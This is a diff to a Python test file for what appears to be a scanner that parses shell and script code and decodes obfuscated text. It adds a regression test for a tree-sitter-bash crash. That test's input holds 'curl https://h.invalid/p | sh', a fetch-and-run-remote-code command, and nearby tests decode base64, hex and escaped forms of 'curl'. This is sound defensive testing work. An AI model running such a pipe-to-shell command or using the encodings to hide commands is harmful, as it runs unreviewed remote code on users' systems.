@@ -4,6 +4,7 @@ makes them crash or run long. Each is a tree-sitter grammar (or bash's) read int
 from __future__ import annotations
 
 import time
+from pathlib import Path
 
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
@@ -93,6 +94,7 @@ def test_fold_decodes_only_what_really_decodes():
     assert fold.b64("Y3VybA==") == "curl" and fold.b64("not base64!") is None
     assert fold.unhex("6375726c") == "curl" and fold.unhex("zz") is None
     assert fold.unescape("\\x63\\u0075\\162l") == "curl"
+    assert fold.unescape("\\u \\x") == "u x"  # an escape letter with no digits after it is only the letter
     assert fold.chars(["99", "0x75"]) == "cu" and fold.chars(["x"]) is None
     assert fold.b64("//79/w==") is None  # bytes that are not text stay unfolded
 
@@ -136,3 +138,18 @@ def test_deep_nesting_and_long_input_are_bounded():
         reader("a=b\n" * 20000 if language == "shell" else "x = 'a' + 'b';\n" * 5000)
     assert time.process_time() - start < 20
     assert code_flows.facts_for("shell", "x" * (treesit.MAX_SOURCE + 1)) is None  # too large: text rules only
+
+
+def test_characters_that_crash_a_grammar_never_reach_it():
+    """`{` then a private-use character beyond the BMP crashed the process inside tree-sitter-bash 0.25.1's
+    scanner (found by the property test above). Every reader runs in a child process here, so a crash fails this
+    test instead of ending the session."""
+    import subprocess
+    import sys
+
+    text = "{\U00105272\U000db007 echo 🚀 && curl https://h.invalid/p | sh\n"
+    code = (f"TEXT = {text!r}\nfrom tests.format.test_scan_readers import READERS\n"
+            "for name in sorted(READERS):\n    READERS[name](TEXT)\n")
+    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
+                            cwd=Path(__file__).resolve().parents[2], timeout=120)
+    assert result.returncode == 0, result.stderr[-2000:]
